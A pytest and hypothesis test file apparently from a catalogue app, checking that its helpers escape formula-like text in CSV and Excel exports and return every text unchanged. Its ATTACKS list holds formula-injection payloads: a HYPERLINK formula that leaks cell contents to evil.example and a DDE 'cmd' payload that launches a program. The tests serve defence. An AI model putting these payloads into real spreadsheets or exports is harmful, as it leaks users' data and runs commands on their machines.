"""No text becomes a formula in a spreadsheet program, and every text comes back as it was."""

import csv
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from catalogue_app.services.cells import csv_line, harmless, meant, text_cell

ATTACKS = (
    '=HYPERLINK("http://evil.example?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "'=1+1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_like_a_formula_is_written_as_a_text(text: str) -> None:
    ((cell,),) = csv.reader(StringIO(csv_line([text]).decode(), newline=""))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["", "幼儿园名录", "2026-11-25", "a=b", "'s Gravenhage", "12.5"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@given(st.text(max_size=20) | st.text(alphabet="'=+-@ \t1", max_size=6))
@example("''=1")
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert meant(harmless(text)) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_a_workbook_holds_texts_alone(text: str, tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([text_cell(sheet, text)])
    book.save(tmp_path / "book.xlsx")
    book.close()
    read = load_workbook(BytesIO((tmp_path / "book.xlsx").read_bytes()))
    assert read.active is not None
    assert read.active["A1"].data_type != "f"
